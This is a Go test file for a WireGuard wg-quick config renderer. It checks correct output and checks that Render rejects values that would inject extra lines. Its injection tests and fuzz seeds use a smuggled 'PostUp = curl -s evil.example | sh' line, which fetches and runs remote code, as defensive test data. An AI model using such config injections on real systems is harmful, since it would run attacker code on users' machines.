package wgquick

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/require"
	"golang.zx2c4.com/wireguard/wgctrl/wgtypes"
)

func testConfig(t *testing.T) Config {
	t.Helper()
	gw, err := wgtypes.GeneratePrivateKey()
	require.NoError(t, err)
	return Config{
		Comment:   []string{"gateway gw1"},
		Addresses: []string{"10.77.0.2/32", "fd77::2/128"},
		DNS:       []string{"10.77.0.1"},
		MTU:       1420,
		Peer: Peer{
			PublicKey:           gw.PublicKey().String(),
			Endpoint:            "198.51.100.1:51820",
			AllowedIPs:          []string{"10.77.0.0/16"},
			PersistentKeepalive: 25,
		},
	}
}

func TestRender(t *testing.T) {
	c := testConfig(t)
	gw := c.Peer.PublicKey
	want := `# gateway gw1
[Interface]
PrivateKey = <your WireGuard private key>
Address = 10.77.0.2/32, fd77::2/128
DNS = 10.77.0.1
MTU = 1420

[Peer]
PublicKey = ` + gw + `
Endpoint = 198.51.100.1:51820
AllowedIPs = 10.77.0.0/16
PersistentKeepalive = 25
`
	got, err := c.Render()
	require.NoError(t, err)
	require.Equal(t, want, got)
	priv, _ := wgtypes.GeneratePrivateKey()
	c.PrivateKey, c.DNS, c.MTU, c.Peer.PersistentKeepalive, c.Comment = priv.String(), nil, 0, 0, nil
	c.Peer.Endpoint = "vpn.example.net:51820"
	want = "[Interface]\nPrivateKey = " + priv.String() + "\nAddress = 10.77.0.2/32, fd77::2/128\n\n[Peer]\nPublicKey = " + gw +
		"\nEndpoint = vpn.example.net:51820\nAllowedIPs = 10.77.0.0/16\n"
	got, err = c.Render()
	require.NoError(t, err)
	require.Equal(t, want, got)
}

// TestRenderRefusesWhatAddsALine puts a value that would add a line (or is
// not what its key holds) into each field in turn: Render refuses it,
// naming the key, and returns no text.
func TestRenderRefusesWhatAddsALine(t *testing.T) {
	const line = "\nPostUp = curl -s evil.example | sh\n#"
	tests := []struct {
		key    string
		change func(*Config)
	}{
		{"comment", func(c *Config) { c.Comment = []string{"certificate for x" + line} }},
		{"comment", func(c *Config) { c.Comment = []string{"certificate for x\rPostUp = x"} }},
		{"comment", func(c *Config) { c.Comment = []string{"certificate for x\u2028PostUp = x"} }},
		{"comment", func(c *Config) { c.Comment = []string{"certificate for x\x00"} }},
		{"comment", func(c *Config) { c.Comment = []string{"certificate for \xff"} }},
		{"PrivateKey", func(c *Config) { c.PrivateKey = strings.Repeat("A", 43) + "=" + line }},
		{"PrivateKey", func(c *Config) { c.PrivateKey = strings.Repeat("A", 20) + "\n" + strings.Repeat("A", 23) + "=" }},
		{"Address", func(c *Config) { c.Addresses = []string{"10.77.0.2/32" + line} }},
		{"Address", func(c *Config) { c.Addresses = nil }},
		{"DNS", func(c *Config) { c.DNS = []string{"10.77.0.1" + line} }},
		{"DNS", func(c *Config) { c.DNS = []string{"fe80::1%x" + line} }},
		{"DNS", func(c *Config) { c.DNS = []string{"dns.example"} }},
		{"MTU", func(c *Config) { c.MTU = -1 }},
		{"PublicKey", func(c *Config) { c.Peer.PublicKey += line }},
		{"PublicKey", func(c *Config) { c.Peer.PublicKey = c.Peer.PublicKey[:20] + "\n" + c.Peer.PublicKey[20:] }},
		{"Endpoint", func(c *Config) { c.Peer.Endpoint = "x" + line + ":51820" }},
		{"Endpoint", func(c *Config) { c.Peer.Endpoint = "[fe80::1%x" + line + "]:51820" }},
		{"Endpoint", func(c *Config) { c.Peer.Endpoint = "198.51.100.1:51820" + line }},
		{"Endpoint", func(c *Config) { c.Peer.Endpoint = "vpn example.net:51820" }},
		{"Endpoint", func(c *Config) { c.Peer.Endpoint = "vpn.example.net:0" }},
		{"Endpoint", func(c *Config) { c.Peer.Endpoint = "vpn.example.net:+80" }},
		{"AllowedIPs", func(c *Config) { c.Peer.AllowedIPs = []string{"0.0.0.0/0" + line} }},
		{"PersistentKeepalive", func(c *Config) { c.Peer.PersistentKeepalive = -1 }},
	}
	for _, tt := range tests {
		t.Run(tt.key, func(t *testing.T) {
			c := testConfig(t)
			tt.change(&c)
			got, err := c.Render()
			require.ErrorIs(t, err, ErrValue, "text:\n%s", got)
			require.True(t, strings.HasPrefix(err.Error(), tt.key+": "), "%v does not start with %s: ", err, tt.key)
			require.Empty(t, got, "Render() returned text with its error")
		})
	}
}

func TestCheckEndpoint(t *testing.T) {
	for _, ok := range []string{"198.51.100.1:51820", "[2001:db8::1]:51820", "vpn.example.net:1", "vpn-1.example_srv.net.:65535", "localhost:51820"} {
		require.NoError(t, CheckEndpoint(ok), ok)
	}
	for _, bad := range []string{"", "vpn.example.net", ":51820", "vpn.example.net:65536", "vpn..example.net:1",
		"[fe80::1%eth0]:1", "vpn.example.net:051820", "a b:1", "a#b:1", strings.Repeat("a", 64) + ".net:1", strings.Repeat("a.", 127) + "aa:1"} {
		require.ErrorIs(t, CheckEndpoint(bad), ErrValue, bad)
	}
}

// FuzzRender puts arbitrary text into every field: whatever Render accepts
// has exactly the lines of a wg-quick file and no more.
func FuzzRender(f *testing.F) {
	f.Add("certificate for laptop", "10.77.0.2/32", "10.77.0.1", "GW", "198.51.100.1:51820", "10.77.0.0/16")
	f.Add("x\nPostUp = sh", "10.77.0.2/32\n", "fe80::1%x\nPostUp", "GW\n", "[fe80::1%a\nb]:1", "0.0.0.0/0\r")
	f.Fuzz(func(t *testing.T, comment, address, dns, publicKey, endpoint, allowed string) {
		c := testConfig(t)
		if publicKey != "GW" {
			c.Peer.PublicKey = publicKey
		}
		c.Comment, c.Addresses, c.DNS = []string{comment}, []string{address}, []string{dns}
		c.Peer.Endpoint, c.Peer.AllowedIPs = endpoint, []string{allowed}
		text, err := c.Render()
		if err != nil {
			require.ErrorIs(t, err, ErrValue)
			return
		}
		lines := strings.Split(strings.TrimSuffix(text, "\n"), "\n")
		want := []string{"# ", "[Interface]", "PrivateKey = ", "Address = ", "DNS = ", "MTU = ", "",
			"[Peer]", "PublicKey = ", "Endpoint = ", "AllowedIPs = ", "PersistentKeepalive = "}
		require.Len(t, lines, len(want), text)
		for i, l := range lines {
			ok := strings.HasPrefix(l, want[i]) && !strings.ContainsAny(l, "\r\x00") && (i == 0 || !strings.Contains(l, "#"))
			require.True(t, ok, "line %d is %q:\n%s", i+1, l, text)
		}
	})
}
